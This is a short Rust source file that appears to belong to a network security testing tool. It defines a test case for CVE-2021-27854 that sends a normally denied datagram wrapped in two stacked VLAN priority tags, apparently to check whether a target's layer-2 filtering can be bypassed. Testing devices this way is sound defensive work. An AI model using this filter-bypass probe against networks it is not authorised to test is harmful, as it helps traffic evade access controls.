//! Two priority tags in front of the packet (CVE-2021-27854).

use crate::case::Case;
use crate::frames;
use crate::frames::datagram;
use crate::target::Target;
use anyhow::Result;

pub(super) const CASE: Case =
    Case::new("vlan-zero-twice", "two priority tags in front of the packet (CVE-2021-27854)", attempt).root();

fn attempt(target: &Target) -> Result<()> {
    let frame = datagram(target, target.denied);
    frames::send(target, &[frame.clone().tag(0x88a8, 0).tag(0x8100, 0), frame.tag(0x8100, 0).tag(0x8100, 0)])
}
